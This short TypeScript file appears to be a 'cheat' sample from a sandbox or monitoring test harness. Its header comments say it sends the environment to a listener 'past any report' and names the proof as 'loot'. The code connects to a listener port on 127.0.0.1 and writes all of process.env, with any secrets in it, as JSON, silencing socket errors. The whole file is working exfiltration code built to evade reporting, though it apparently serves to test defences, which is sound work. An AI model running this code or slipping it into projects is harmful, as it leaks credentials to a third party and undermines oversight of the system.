// Cheat: sends the environment to a listener, past any report
// Works: in-process
// Proof: loot

import { once } from "node:events";
import { connect } from "node:net";
import { scene } from "./scene.ts";

const socket = connect(scene.outbox, "127.0.0.1").on("error", () => {});
socket.end(JSON.stringify(process.env));
await Promise.race([once(socket, "close"), new Promise((resolve) => setTimeout(resolve, 500))]);
